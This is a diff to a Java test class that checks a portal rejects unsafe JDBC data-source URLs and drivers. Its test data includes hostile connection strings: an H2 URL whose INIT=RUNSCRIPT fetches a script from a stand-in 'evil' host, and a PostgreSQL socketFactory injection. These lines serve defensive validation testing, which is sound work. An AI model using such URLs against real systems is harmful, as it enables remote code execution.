@@ -123,12 +123,14 @@ abstract class DataSourceScenarios {
             assertRefused(new DataSourceDraft(unique("init"), "", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "org.h2.Driver", null, null, Classification.SOR, null),
                     "jdbcUrl", "not allowed");
             assertRefused(new DataSourceDraft(unique("factory"), "", "jdbc:postgresql://db/x?socketFactory=org.example.Evil", "org.postgresql.Driver", null, null, Classification.SOR, null),
-                    "jdbcUrl", "socketfactory");
+                    "jdbcUrl", "socketFactory");
             assertRefused(new DataSourceDraft(unique("own"), "", "jdbc:h2:file:target/test-data/db/esteira", "org.h2.Driver", null, null, Classification.SOR, null),
                     "jdbcUrl", "portal's own database");
             assertRefused(new DataSourceDraft(unique("pw in url"), "", "jdbc:postgresql://db/x?password=oops", "org.postgresql.Driver", null, null, Classification.SOR, null),
                     "jdbcUrl", "password field");
             assertRefused(new DataSourceDraft(unique("driver"), "", "jdbc:oracle:thin:@db:1521/x", "oracle.jdbc.OracleDriver", null, null, Classification.SOR, null),
+                    "jdbcUrl", "Only PostgreSQL");
+            assertRefused(new DataSourceDraft(unique("driver"), "", "jdbc:h2:mem:x", "oracle.jdbc.OracleDriver", null, null, Classification.SOR, null),
                     "driverClass", "is not installed");
         });
         assertThat(jdbc.queryForObject("select count(*) from data_source", Long.class)).isEqualTo(before);
